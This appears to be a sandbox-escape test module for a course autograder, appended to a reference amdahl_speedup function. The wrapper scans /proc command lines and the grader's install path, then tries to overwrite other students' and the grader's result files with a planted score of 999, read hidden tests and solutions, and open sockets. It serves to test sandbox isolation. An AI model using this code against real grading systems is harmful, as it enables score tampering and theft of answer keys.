# Attack: reach past the sandbox. Overwrite other students' results, the grader's output and the
# course; read the hidden tests and solutions by path; open sockets. Targets come from what the
# worker can discover (every visible process's command line, the grader's install location) and
# from targets.json beside the module, where the attack tests put the exact paths and ports an
# attacker could know. Every success makes amdahl_speedup fail, naming it.
import glob as _glob
import json as _json
import os as _os
import socket as _socket
import sys as _sys

_reference_amdahl_speedup = amdahl_speedup  # noqa: F821 - defined by the reference this file is appended to
PLANTED = '{"score": 999}'


def _targets():
    found = {"write": [], "read": [], "connect": []}
    try:
        with open("targets.json") as f:
            for key, values in _json.load(f).items():
                found[key] += values
    except OSError:
        pass
    for cmdline in _glob.glob("/proc/[0-9]*/cmdline"):  # e.g. `grader grade ... --json out.json`
        try:
            with open(cmdline, "rb") as f:
                args = [a.decode(errors="replace") for a in f.read().split(b"\0")]
        except OSError:
            continue
        for arg in args:
            if arg.endswith(".json") and _os.path.isabs(arg):
                found["write"].append(arg)
    grader = _sys.modules.get("grader")
    if grader is not None:  # the course checkout the grader was installed from
        root = _os.path.dirname(_os.path.dirname(grader.__file__))
        found["read"] += _glob.glob(_os.path.join(root, "tests", "hidden", "*", "*.py"))
        found["read"] += _glob.glob(_os.path.join(root, "solutions", "*", "*.py"))
        found["write"].append(_os.path.join(root, "assignments", "planted.json"))
    return found


def _escapes():
    """Everything that got out (empty when the sandbox held)."""
    got = []
    targets = _targets()
    for path in targets["write"]:
        try:
            with open(path, "w") as f:
                f.write(PLANTED)
            got.append(f"wrote {path}")
        except OSError:
            pass
    for path in targets["read"]:
        try:
            with open(path) as f:
                f.read(64)
            got.append(f"read {path}")
        except OSError:
            pass
    for host, port in targets["connect"]:
        try:
            _socket.create_connection((host, port), timeout=2).close()
            got.append(f"connected to {host}:{port}")
        except OSError:
            pass
    return got


def amdahl_speedup(p, n):
    escaped = _escapes()
    if escaped:
        raise RuntimeError("escaped the sandbox: " + "; ".join(escaped[:5]))
    return _reference_amdahl_speedup(p, n)
